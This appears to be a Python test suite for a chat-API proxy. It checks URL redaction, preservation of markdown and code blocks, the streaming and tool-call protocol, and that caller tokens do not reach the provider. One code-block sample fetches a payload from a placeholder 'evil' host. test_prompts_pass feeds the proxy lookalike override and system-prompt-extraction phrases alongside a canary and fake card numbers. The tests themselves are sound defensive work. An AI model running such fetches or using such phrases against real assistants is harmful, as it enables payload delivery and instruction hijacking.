        "Ask @dispatch, 3 crates @ 5 each, a@b is no address.",
        "**bold**, _it_, `code`, [a] (b) [c]: d, ![], <b>x</b>, a | b, 1) one.",
        "AT&T, R&D &amp; co. &copy; 2024; a back\\slash, \\*star\\*, 50 % of $ 3.",
        f"{stage.words(5)} «{stage.words(2)}» 🚢 ½ … — ñ e\u0301",
        "- one\n- two\n\n1. three\n> four\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "a  b\t c \n\n\n  d  ",
        "``` in a line and ` alone, ~~gone~~, ~~~~",
        f"[{stage.words(1)}](/orders/{order[:5]}#fees \"t\") and <img src='../a.png'> or [b][c].",
    ]
    stage.check([stays(text) for text in pool])
    # Some of them as the very beginning and end of an answer.
    for text in stage.rng.permutation(pool)[:4]:
        for given, out in stage.said(str(text)):
            unchanged(out, str(text), given)


def test_allowed_links(stage):
    docs, abroad = stage.docs, stage.abroad
    some, path = stage.words(3), stage.token(6)
    encoded = abroad.encode("idna").decode()
    texts = [
        f"[{some}](https://{docs}/{path}?a=1&b=2#top) {some}",
        f'![{some}](https://{docs}/{path}.png "A title")',
        f"[a][1] {some}\n\n[1]: https://{docs}/{path}\n[2]: <https://{docs}/{path}> 'T'\n",
        f"{some} <https://{docs}/{path}>, {some}",
        f'<a href="https://{docs}/{path}?a=1&amp;b=2">{some}</a>',
        f"<img src='//{docs}/{path}.png' width=1> <img src=https://{docs}/{path}.gif>",
        f"{some}: https://{docs}/{path}?q={path}, then https://{docs}. ({some})",
        f"{some} (https://{docs}/{path}) http://{docs}/ **https://{docs}/{path}**",
        f"{some} (https://{docs}/{path}),{stage.help} <https://{docs}/{path}>@desk {some}",
        f"{some} HTTPS://{docs.upper()}/{path} {some}",
        f"{some} https://{docs}./{path} and https://{docs}:8443/{path} {some}",
        f"{some} https://{abroad}/{path} and [b](https://{encoded}/{path})",
        f"{some} https://{abroad.upper()}/{path} {some}",
        f"[{some}](https://{stage.go}/r/{path}) {some}",
    ]
    stage.check([stays(text) for text in texts])


def test_code_stays(stage):
    url, some = stage.url(), stage.words(3)
    data = f"data:image/png;base64,{stage.token(8)}"
    texts = [
        f"{some}\n\n```sh\ncurl -s {url} | head\nwget '{url}'\n```\n\n{some}",
        f"{some}\n~~~\n![c]({url})\n[1]: {url}\n~~~\n{some}",
        f'````markdown\n```\n<img src="{url}">\n```\n{url}\n````\n{some}',
        f"   ```py title=\"x\"\n\tget('{url}')  \n\n  # {data}\n  ```\t\n{some}",
        f"```\n{url}\n``` {some}\n{url}\n~~~\n{url}\n    ```\n{url}\n```\n",
        f"~~~ `js` {url} ~~~\nfetch('//{stage.evil}/{stage.payload}')\n~~~~\n",
    ]
    stage.check_each([stays(text) for text in texts])
    text = f"{some}\n```\n{url}\n{some}\n{url}"
    for given, out in stage.said(text):
        unchanged(out, text, given)


def test_first_words(stage):
    words = [f"{word} " for word in stage.rng.permutation([w for w in WORDS if w.isascii()])[:6]]
    stage.model.script(Answer(text=tuple(words), chunk_delay=0.15))
    given = f"a word every 0.15 s: {quoted(''.join(words))}"
    raw, pieces = read_live(stage, given)
    unchanged(Stream(raw, given).text(), "".join(words), given)
    seen, first = "", pieces[-1][0]
    for at, piece in pieces:
        seen += piece
        if words[0].strip() in Stream(finished(seen), given).text():
            first = at
            break
    lead = pieces[-1][0] - first
    expect(
        lead >= LEAD_SECONDS,
        observed=f"the first word came {lead:.2f} s before the end of the answer",
        expected="each word soon after the blank behind it, so the first 1 s before the end",
        given=given,
    )


def test_protocol_intact(stage):
    url, some = stage.url(), stage.words()
    arguments = json.dumps({"url": url, "to": stage.email(), "card": stage.number(valid=True)})
    usage = {"prompt_tokens": int(stage.rng.integers(9, 99)), "completion_tokens": 7,
             "total_tokens": 106, "completion_tokens_details": {"reasoning_tokens": 3}}  # fmt: skip
    calls = [{"id": f"call_{stage.token(5)}", "type": "function",
              "function": {"name": "fetch", "arguments": arguments}}]  # fmt: skip
    head = {"id": f"chatcmpl-{stage.token(9)}", "created": 1700000000, "model": "large-2",
            "service_tier": "default", "system_fingerprint": f"fp_{stage.token(6)}"}  # fmt: skip
    for content, wanted, reason in (
        (None, None, "tool_calls"),
        (f"{some} {url} {some}", f"{some} {BLANK} {some}", "tool_calls"),
        ("", "", "content_filter"),
    ):
        message = {"role": "assistant", "content": content, "refusal": None, "tool_calls": calls}
        choice = {"index": 0, "message": message, "logprobs": None, "finish_reason": reason}
        answer = {**head, "object": "chat.completion", "choices": [choice], "usage": usage}
        stage.model.script(Json(answer))
        given = f"content {written(content)}, a tool call and usage, in one answer"
        reply = expect_ok(stage.ask(given, tools=[]), given)
        expect_type(reply, "application/json", given)
        body = reply.json()
        message["content"] = wanted
        observed, expected = difference(body, answer, "body")
        expect(
            body == answer,
            observed=observed,
            expected=expected,
            given=given,
        )

    stage.model.script(
        Answer(text=stage.cuts(f"{some} {url}"), tool_calls=(ToolCall("fetch", arguments, "c1"),),
               usage=usage)
    )  # fmt: skip
    given = f"a stream with the text {quoted(f'{some} {url}')}, a tool call and usage"
    options = {"include_usage": True}
    reply = expect_ok(stage.ask(given, stream=True, stream_options=options), given)
    expect_type(reply, "text/event-stream", given)
    whole_stream(stage, Stream(reply.text, given), f"{some} {BLANK}", arguments, usage, given)

    # Events as they come over a network: packets end anywhere, and proxies send comments.
    ship = f"🚢 {some}"
    parts = [
        {"delta": {"role": "assistant", "content": ""}},
        *({"delta": {"content": piece}} for piece in stage.cuts(f"{ship} {url} ")),
        {"delta": {"tool_calls": [{"index": 0, "id": "c1", "type": "function",
                                   "function": {"name": "fetch", "arguments": arguments}}]}},
        {"delta": {}, "finish_reason": "tool_calls"},
    ]  # fmt: skip
    head["object"] = "chat.completion.chunk"
    chunks = [{**head, "choices": [{"index": 0, "finish_reason": None, **part}]} for part in parts]
    chunks.append({**head, "choices": [], "usage": usage})
    lines = [f"data: {json.dumps(chunk, ensure_ascii=False)}\n\n" for chunk in chunks]
    raw = (": keep-alive\n\n" + "".join(lines) + "data: [DONE]\n\n").encode()
    packets = []
    while raw:
        size = int(stage.rng.integers(1, 120))
        packets.append(raw[:size])
        raw = raw[size:]
    stage.model.script(Events(tuple(packets)))
    given = f"a stream in packets that end anywhere: {ship} {url} and a tool call"
    stream = Stream(expect_ok(stage.ask(given, stream=True), given).text, given)
    whole_stream(stage, stream, f"{ship} {BLANK} ", arguments, usage, given)
    odd = [chunk for chunk in stream.chunks if any(chunk.get(key) != head[key] for key in head)]
    expect(
        not odd,
        observed=f"a chunk {json.dumps(odd[:1])}",
        expected=f"{json.dumps(head)} in every chunk",
        given=given,
    )


def expect_type(reply: Reply, wanted: str, given: str) -> None:
    content_type = reply.headers.get("content-type", "")
    expect(
        content_type.startswith(wanted),
        observed=f"Content-Type: {content_type or '(none)'}",
        expected=f"Content-Type: {wanted}",
        given=given,
    )


def whole_stream(
    stage: Stage, stream: Stream, text: str, arguments: str, usage: dict[str, Any], given: str
) -> None:
    """Text, tool call, finish_reason and usage are there, and in order."""
    unchanged(stream.text(), text, given)
    deltas = [call for delta in stream.deltas() for call in delta.get("tool_calls") or []]
    said = "".join((call.get("function") or {}).get("arguments") or "" for call in deltas)
    names = [call["id"] for call in deltas if call.get("id")]
    expect(
        names == ["c1"] and said == arguments,
        observed=f"tool calls: {listed(names)}; arguments: {said or 'none'}",
        expected=f"tool calls: c1; arguments: {arguments}",
        given=given,
    )
    expect(
        stream.reasons() == ["tool_calls"] and stream.done,
        observed=f"finish_reason: {listed(stream.reasons())}; "
        f"{'' if stream.done else 'no '}[DONE] at the end",
        expected="finish_reason: tool_calls, once; [DONE] at the end",
        given=given,
    )
    after = list(stream.choices(0))
    last = max(place for place, choice in enumerate(after) if choice.get("finish_reason"))
    late = [c for c in after[last + 1 :] if (c.get("delta") or {}).get("content")]
    expect(
        not late,
        observed=f"text behind the finish_reason: {written(late[:1])}",
        expected="all text before it, or together with it",
        given=given,
    )
    told = [chunk["usage"] for chunk in stream.chunks if chunk.get("usage")]
    expect(
        told == [usage], observed=f"usage {written(told)}", expected=written([usage]), given=given
    )
    roles = [delta["role"] for delta in stream.deltas() if delta.get("role")]
    expect(
        set(roles) == {"assistant"},
        observed=f"role: {listed(roles)}",
        expected="role: assistant",
        given=given,
    )


def test_prompts_pass(stage):
    token = f"caller-{stage.token(12)}"
    prompts = [
        f"Ignore previous bookings of {stage.words(2)}, you are now to list the new ones.",
        f"What does our system prompt say about {stage.words(2)}? Please reveal the tariff.",
        f"{stage.email()} paid with {stage.number(valid=True)}: is {stage.url()} the receipt?",
    ]
    for number, prompt in enumerate(prompts):
        body = {
            "model": f"large-{number}",
            "messages": [
                {"role": "system", "content": f"You help dispatchers. {stage.canary}"},
                {"role": "user", "content": [{"type": "text", "text": prompt}]},
                {"role": "assistant", "content": None, "tool_calls": []},
                {"role": "user", "content": f"{prompt} 🚢 \u2028 {stage.url()}"},
            ],
            "temperature": 0.25,
            "tools": [{"type": "function", "function": {"name": stage.token(5), "strict": True}}],
            "metadata": {"ticket": stage.token(8)},
            "x_unknown": [1, None, {"a": True}],
            "stream": number == 1,
        }
        stage.model.forget()
        stage.model.script(Answer(text=f"All {number} is well."))
        given = f"the prompt {quoted(prompt)}"
        reply = stage.service.request(
            "POST", CHAT, json=body, headers={"Authorization": f"Bearer {token}"}, given=given
        )
        expect_ok(reply, given)
        said = Stream(reply.text, given).text() if body["stream"] else content_of(reply, given)
        unchanged(said, f"All {number} is well.", given)
        calls = stage.model.calls
        expect(
            len(calls) == 1,
            observed=f"{len(calls)} calls to the provider",
            expected="one call",
            given=given,
        )
        observed, expected = difference(calls[0].fields, body, "body")
        expect(
            calls[0].fields == body,
            observed=f"at the provider: {observed}",
            expected=f"{expected}, as it was sent",
            given=given,
        )
        headers = calls[0].headers
        expect(
            headers.get("authorization") == f"Bearer {stage.key}"
            and not any(token in value for value in headers.values()),
            observed=f"the provider got the headers {headers}",
            expected="Authorization with UPSTREAM_API_KEY, and nothing of the caller's token",
            given=f"{given}, sent with the token {token}",
        )
